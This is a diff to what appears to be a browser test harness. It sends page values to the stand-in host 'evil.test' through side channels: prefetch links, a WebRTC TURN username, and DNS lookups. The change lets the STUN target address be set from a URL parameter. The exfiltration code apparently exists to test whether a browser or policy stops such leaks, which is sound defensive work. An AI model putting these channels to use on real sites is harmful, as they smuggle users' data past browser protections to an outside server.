@@ -1,4 +1,5 @@
-// B06, B07: each channel takes a value to evil.test. `/exfil?channel=NAME&when=input|poll|submit`.
+// B06, B07: each channel takes a value to evil.test. `/exfil?channel=NAME&when=input|poll|submit`,
+// for STUN also `&at=ADDRESS` instead of evil.test.
 const EVIL = "https://evil.test";
 const asked = new URLSearchParams(location.search);
 const escaped = encodeURIComponent;
@@ -38,7 +39,7 @@ const CHANNELS = {
   },
   prefetch: (value) => link("prefetch", `${EVIL}/collect?value=${escaped(value)}`),
   stun: (value) => peer({
-    urls: `turn:evil.test:${document.querySelector("#stun").textContent}?transport=udp`, username: value, credential: "x",
+    urls: `turn:${asked.get("at") ?? "evil.test"}:${document.querySelector("#stun").textContent}?transport=udp`, username: value, credential: "x",
   }),
   // The value is in the name that is looked up. chromium-headless-shell ignores both hints (it has no handler for
   // them), so the look-up that always happens is that of a request; what its path says does not matter.
